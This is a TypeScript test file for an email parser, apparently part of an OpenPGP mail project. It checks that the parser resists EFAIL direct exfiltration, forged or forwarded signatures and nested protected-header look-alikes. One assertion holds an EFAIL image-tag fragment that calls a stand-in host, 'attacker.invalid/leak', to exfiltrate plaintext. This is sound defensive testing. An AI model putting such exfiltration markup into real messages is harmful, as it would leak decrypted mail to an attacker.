// Parser-level defences. The EFAIL direct exfiltration shape is not decrypted and its HTML
// parts stay apart. A forwarded signed message does not sign the outer one, and a signed part
// among unsigned parts is reported as nested. A protected-header look-alike below the payload
// root is ignored.

import { describe, expect, it } from 'vitest';
import { loadMailFixture } from '../../../../test/fixtures/load.ts';
import { parseEntity, parseMessage } from '../../src/index.ts';
import { ARMORED_CIPHERTEXT, ARMORED_SIGNATURE } from '../fixtures.ts';

const addresses = {
  FROM: 'alice@sealpost.test',
  TO: 'bob@sealpost.test',
  MESSAGE_ID: '<attack@sealpost.test>',
};
const signedPart = Buffer.from(
  loadMailFixture('signed-part.eml', { TEXT: 'Signed text.' }),
).toString('latin1');
const signature = { SIGNED_PART: signedPart.trimEnd(), SIGNATURE: ARMORED_SIGNATURE };

describe('EFAIL direct exfiltration', () => {
  it('leaves the embedded ciphertext encrypted', () => {
    const parsed = parseMessage(
      loadMailFixture('efail-direct-exfiltration.eml', { ...addresses, ARMOR: ARMORED_CIPHERTEXT }),
    );
    expect(parsed.kind).toBe('plain');
    expect(parsed.encrypted).toBeUndefined();
  });

  it('keeps the HTML parts apart', () => {
    const parsed = parseMessage(
      loadMailFixture('efail-direct-exfiltration.eml', { ...addresses, ARMOR: ARMORED_CIPHERTEXT }),
    );
    const html = parsed.body!.html!;
    expect(html).toBe('<img src="http://attacker.invalid/leak?');
    expect(html).not.toContain('">');
    expect(html).not.toContain('BEGIN PGP MESSAGE');
  });
});

describe('signature spoofing shapes', () => {
  it('forwarded signed message is unsigned', () => {
    const forwarded = Buffer.from(
      loadMailFixture('signed-detached.eml', {
        ...addresses,
        MICALG: 'micalg=pgp-sha512; ',
        ...signature,
      }),
    ).toString('latin1');
    const parsed = parseMessage(
      loadMailFixture('forwarded-signed-attachment.eml', {
        ...addresses,
        FROM: 'mallory@sealpost.test',
        FORWARDED: forwarded,
      }),
    );
    expect(parsed.kind).toBe('plain');
    expect(parsed.signed).toBeUndefined();
    expect(parsed.body!.nestedSigned).toEqual([]);
    expect(parsed.body!.attachments[0]?.contentType).toBe('message/rfc822');
  });

  it('reports a signed part among unsigned parts', () => {
    const parsed = parseMessage(
      loadMailFixture('partially-signed.eml', { ...addresses, ...signature }),
    );
    expect(parsed.kind).toBe('plain');
    expect(parsed.body!.nestedSigned).toHaveLength(1);
    expect(Buffer.from(parsed.body!.nestedSigned[0]!.signedBytes).toString()).toContain(
      'Signed text.',
    );
    expect(parsed.body!.text).toContain('Unsigned text added by someone else.');
  });
});

describe('header protection', () => {
  it('ignores a nested protected-header look-alike', () => {
    const entity = parseEntity(
      loadMailFixture('payload-nested-protected-lookalike.eml', { TEXT: 'Payload text.' }),
    );
    expect(entity.protectedHeaders).toBeNull();
    expect(entity.text).toContain('Payload text.');
  });

  it('reads protected headers at the payload root', () => {
    const entity = parseEntity(
      loadMailFixture('payload-protected.eml', {
        ...addresses,
        INNER_SUBJECT: 'The real subject',
        TEXT: 'Payload text.',
      }),
    );
    expect(entity.protectedHeaders?.subject).toBe('The real subject');
    expect(entity.protectedHeaders?.from?.address).toBe('alice@sealpost.test');
  });
});
